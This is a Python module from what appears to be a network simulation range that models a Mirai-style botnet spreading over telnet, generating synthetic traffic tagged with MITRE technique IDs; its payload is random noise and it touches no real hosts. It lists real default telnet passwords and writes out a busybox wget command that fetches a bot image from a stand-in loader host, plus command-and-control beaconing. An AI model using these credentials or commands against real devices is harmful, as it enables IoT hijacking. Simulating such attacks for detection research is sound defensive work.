"""A bot that spreads by telnet and default passwords, as Mirai does; its image is noise and can run nowhere.

References: Antonakakis et al., Understanding the Mirai Botnet, USENIX Security 2017, 3 (scan, guess, report, load).
"""

import heapq
from collections.abc import Iterator
from dataclasses import dataclass

from wardline_range.attacks.attack import Attack
from wardline_range.clock import SECOND, Process, ns
from wardline_range.device import Device
from wardline_range.packets.conversation import CLIENT, SERVER, Conversation, Unreachable
from wardline_range.protocols import http, telnet
from wardline_range.protocols.noise import noise

_GUESSES = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("support", "support"))
_RIGHT = ("root", "default")
_PROMPT = b"\r\n# "
_COMMANDS = ("enable", "shell", "sh", "/bin/busybox ECCHI")
_SECOND_PORT, _BEACON = 2323, b"\x00\x00"
_MORE_OUTSIDE = "198.19."


@dataclass(kw_only=True, eq=False)
class MiraiSpread(Attack):
    """Every bot scans, guesses on the neighbours that accept telnet, loads itself onto them, and keeps a line to C2.

    `most_bots` bounds how many there are with the first one, `outside` is the share of probes that leave the site.
    """

    name = "mirai-spread"
    techniques = ("T1046", "T1110.001", "T1078", "T1105", "T1570", "T1571", "T0812")
    description = (
        "The device scans for telnet, logs in on neighbours with a default password and has them fetch an image; the"
        " new bots call the controller and scan on."
    )

    most_bots: int = 4
    probes_per_s: float = 3.0
    outside: float = 0.5
    wrong_guesses: int = 4
    loader: str = "loader.bot.example"
    controller: str = "cnc.bot.example"
    report_port: int = 48101
    controller_port: int = 5555
    image_bytes: int = 62_000
    beacon_s: float = 60.0

    def __post_init__(self) -> None:
        super().__post_init__()
        self._taken: list[Device] = [self.device]
        """Bots, and those on whom somebody is at work."""
        self._turns: list[tuple[int, int, Process]] = []
        self._count = 0

    def steps(self) -> Iterator[tuple[str, Process]]:
        """One step for all bots; what they do bears names of its own: scan, guess, load, report, beacon."""
        yield "spread", self._spread()

    def _spread(self) -> Iterator[float]:
        """The bots' processes in turn."""
        self._enlist(self.device)
        while self._turns:
            at, _, process = heapq.heappop(self._turns)
            yield max(0.0, (at - self.now) / SECOND)
            wait = next(process, None)
            if wait is not None:
                self._put(process, wait)

    def _put(self, process: Process, wait: float) -> None:
        self._count += 1
        heapq.heappush(self._turns, (self.now + ns(wait), self._count, process))

    def _enlist(self, bot: Device) -> None:
        self._put(self._beacon(bot, bot.boots), 0.0)
        self._put(self._scan(bot, bot.boots), self.chance.between(2, 6))

    def _is_bot(self, bot: Device, boots: int) -> bool:
        """It lives in memory only: a restart cleans the device."""
        return bot.is_present and bot.boots == boots

    def _scan(self, bot: Device, boots: int) -> Iterator[float]:
        site, chance = self.site, self.chance
        hosts = [str(host) for host in site.prefix.hosts()]
        while self._is_bot(bot, boots):
            if chance.happens(self.outside):
                ip = f"{_MORE_OUTSIDE}{chance.below(256)}.{1 + chance.below(254)}"
            else:
                ip = chance.pick(hosts)
            port = _SECOND_PORT if chance.happens(0.1) else telnet.PORT
            if ip != bot.nic.ip and site.probe(bot.nic, ip, port, self.now, chance, self.label("scan")):
                try:
                    yield from self._attempt(bot, ip)
                except Unreachable as given_up:
                    yield max(0.0, (given_up.at - self.now) / SECOND)
            yield chance.around(1 / self.probes_per_s, 0.8)

    def _attempt(self, bot: Device, ip: str) -> Iterator[float]:
        """Guess on a host that answered; where it falls, report it and load it."""
        victim = next((one for one in self.neighbours() if one.nic.ip == ip), None)
        if victim is None or victim in self._taken or len(self._taken) >= self.most_bots:
            return
        self._taken.append(victim)
        tried = [self.chance.pick(_GUESSES) for _ in range(self.wrong_guesses)]
        for place in range(0, len(tried), 2):
            yield from self._guess(bot, ip, tried[place : place + 2])
        self._report(bot)
        yield self.chance.between(2, 8)
        yield from self._load(bot, victim)

    def _guess(self, bot: Device, ip: str, logins: list[tuple[str, str]]) -> Iterator[float]:
        talk = self._greeted(bot, ip, "guess")
        for user, password in logins:
            self._typed(talk, user, password)
            talk.send(SERVER, telnet.FAILED + telnet.LOGIN, self.chance.between(1.0, 2.0))
        talk.close()
        yield max(0.0, (talk.at - self.now) / SECOND) + self.chance.between(1, 4)

    def _report(self, bot: Device) -> None:
        """Tell the loader's host what was found."""
        address = self.site.internet.address(self.loader)
        talk = bot.call(address, self.report_port, "", self.now, self.label("report"))
        talk.ask(noise(self.chance, 18), noise(self.chance, 1), 0.005).close()

    def _load(self, bot: Device, victim: Device) -> Iterator[float]:
        """Log in with the right password and have the victim fetch the image; it is a bot from then on."""
        label, address = self.label("load"), self.site.internet.address(self.loader)
        talk = self._greeted(bot, victim.nic.ip, "load")
        self._typed(talk, *_RIGHT)
        talk.send(SERVER, b"\r\n\r\nBusyBox v1.19.2 built-in shell (ash)" + _PROMPT, 0.3)
        for command in (*_COMMANDS, f"/bin/busybox wget http://{address}/bin.arm7 -O -"):
            talk.send(CLIENT, telnet.line(command), 0.1).send(SERVER, telnet.line(command) + _PROMPT, 0.02)
        yield max(0.0, (talk.at - self.now) / SECOND)
        fetched = victim.call(address, 80, "http", self.now, label)
        answer = http.response(200, "nginx", noise(self.chance, self.image_bytes), "application/octet-stream")
        asked = http.request("GET", address, "/bin.arm7", "Wget", Connection="close")
        fetched.ask(asked, answer, 0.02).close(SERVER)
        talk.wake(fetched.at).send(SERVER, _PROMPT).close()
        yield max(0.0, (talk.at - self.now) / SECOND) + 1.0
        if victim.is_present:
            self._enlist(victim)

    def _beacon(self, bot: Device, boots: int) -> Iterator[float]:
        """A line to the controller, with a sign of life and its echo on it; opened again where it broke."""
        label = self.label("beacon")
        while self._is_bot(bot, boots):
            try:
                address, known = bot.resolve(self.controller, self.now, label)
                talk = bot.call(address, self.controller_port, "", known, label)
                talk.send(CLIENT, b"\x00\x00\x00\x01").settle()
                while self._is_bot(bot, boots):
                    yield self.chance.around(self.beacon_s, 0.02)
                    talk.wake(self.now).ask(_BEACON, _BEACON, 0.004)
            except Unreachable as given_up:
                yield max(1.0, (given_up.at - self.now) / SECOND)

    def _greeted(self, bot: Device, ip: str, step: str) -> Conversation:
        talk = bot.call(ip, telnet.PORT, "telnet", self.now, self.label(step))
        talk.send(SERVER, telnet.NEGOTIATION, 0.02).send(CLIENT, telnet.REFUSAL, 0.002)
        return talk.send(SERVER, telnet.LOGIN, 0.01)

    def _typed(self, talk: Conversation, user: str, password: str) -> None:
        talk.send(CLIENT, telnet.line(user), 0.05).send(SERVER, telnet.line(user) + telnet.PASSWORD, 0.01)
        talk.send(CLIENT, telnet.line(password), 0.05)
